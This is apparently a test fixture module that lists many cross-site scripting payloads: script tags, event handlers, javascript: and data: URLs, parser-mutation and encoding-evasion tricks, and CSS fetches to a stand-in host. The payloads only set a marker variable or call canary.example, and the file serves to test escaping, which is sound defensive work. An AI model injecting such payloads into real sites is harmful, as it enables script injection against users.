// Markup that would run, fetch or change the page if it were rendered as HTML. A script that runs sets `__xss`; a fetch
// goes to canary.example.

const RUN_MARK = 'window.__xss=1'
export const CANARY = 'canary.example'
const CANARY_URL = `//${CANARY}/x`

/** Every test run plays these twelve, one of each kind. */
export const QUICK_PAYLOADS = [
  `<script>${RUN_MARK}</script>`,
  `<img src=${CANARY_URL} onerror="${RUN_MARK}">`,
  `"><svg/onload=${RUN_MARK}>`,
  `';${RUN_MARK};//`,
  `</title><script>${RUN_MARK}</script>`,
  `<a href="javascript:${RUN_MARK}">x</a>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>">`,
  `<details open ontoggle="${RUN_MARK}">`,
  `<style>@import "${CANARY_URL}"</style>`,
  `<base href="//canary.example/">`,
  `{{constructor.constructor("${RUN_MARK}")()}}`,
  `<math><mi xlink:href="javascript:${RUN_MARK}">x</mi></math>`,
]

/** These values are dangerous where a text becomes the address of a link or a picture, or a colour. */
export const ADDRESS_PAYLOADS = [
  `javascript:${RUN_MARK}`,
  `JaVaScRiPt:${RUN_MARK}//`,
  `java\tscript:${RUN_MARK}`,
  `java\nscript:${RUN_MARK}`,
  ` \u0001javascript:${RUN_MARK}`,
  `javascript&colon;${RUN_MARK}`,
  `&#106;avascript:${RUN_MARK}`,
  `vbscript:${RUN_MARK}`,
  `data:text/html,<script>parent.__xss=1</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN_MARK}"/>`,
  `blob:http://canary.example/x`,
  `https://canary.example\\@127.0.0.1/x`,
  `url(${CANARY_URL})`,
  `red;background:url(${CANARY_URL})`,
  `file:///etc/passwd`,
  `\\\\canary.example\\x`,
]

const MARKUP_PAYLOADS = [
  `<ScRiPt>${RUN_MARK}</sCrIpT>`,
  `<scr<script>ipt>${RUN_MARK}</scr</script>ipt>`,
  `<script/src=${CANARY_URL}></script>`,
  `<svg><script>${RUN_MARK}</script></svg>`,
  `<svg><animate onbegin=${RUN_MARK} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN_MARK}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN_MARK} />#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN_MARK}"></foreignObject></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN_MARK}></annotation-xml></math>`,
  `<math href="javascript:${RUN_MARK}">x</math>`,
  `<input autofocus onfocus=${RUN_MARK}>`,
  `<body onpageshow=${RUN_MARK}>`,
  `<video><source onerror=${RUN_MARK}></video>`,
  `<audio src=${CANARY_URL} onerror=${RUN_MARK}>`,
  `<marquee onstart=${RUN_MARK}>x</marquee>`,
  `<object data="javascript:${RUN_MARK}"></object>`,
  `<embed src="javascript:${RUN_MARK}">`,
  `<form action="javascript:${RUN_MARK}"><button formaction="javascript:${RUN_MARK}">x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${CANARY_URL}">`,
  `<link rel=stylesheet href=${CANARY_URL}>`,
  `<div style="background:url(${CANARY_URL})">x</div>`,
  `<p style="animation:x" onanimationstart=${RUN_MARK}>x</p>`,
  `<template><script>${RUN_MARK}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN_MARK}>">`,
  `<select><style></select><img src=x onerror=${RUN_MARK}></style>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN_MARK}>">`,
  '${' + RUN_MARK + '}`${' + RUN_MARK + '}`',
  `&lt;img src=x onerror=${RUN_MARK}&gt;&#60;script&#62;${RUN_MARK}&#60;/script&#62;`,
  `<img src=x\u0000 onerror=${RUN_MARK}>\u0000<scr\u0000ipt>${RUN_MARK}</script>`,
  `\u202e<img src=x onerror=${RUN_MARK}>\u202c\u200b\ufeff＜script＞${RUN_MARK}＜/script＞`,
  `"onmouseover="${RUN_MARK}" style="position:fixed;inset:0" x="`,
  `${'A'.repeat(6000)}<img src=x onerror=${RUN_MARK}>`,
]

export const ALL_PAYLOADS = [...QUICK_PAYLOADS, ...ADDRESS_PAYLOADS, ...MARKUP_PAYLOADS]

/**
 * These payloads stay text everywhere, because they contain no markup, or because the HTML parser drops the attributes of
 * a second body.
 */
export const TEXT_PAYLOADS = ALL_PAYLOADS.filter((payload) =>
  /^(';|\{\{|\$\{|&lt;|"on|<body )/.test(payload),
)
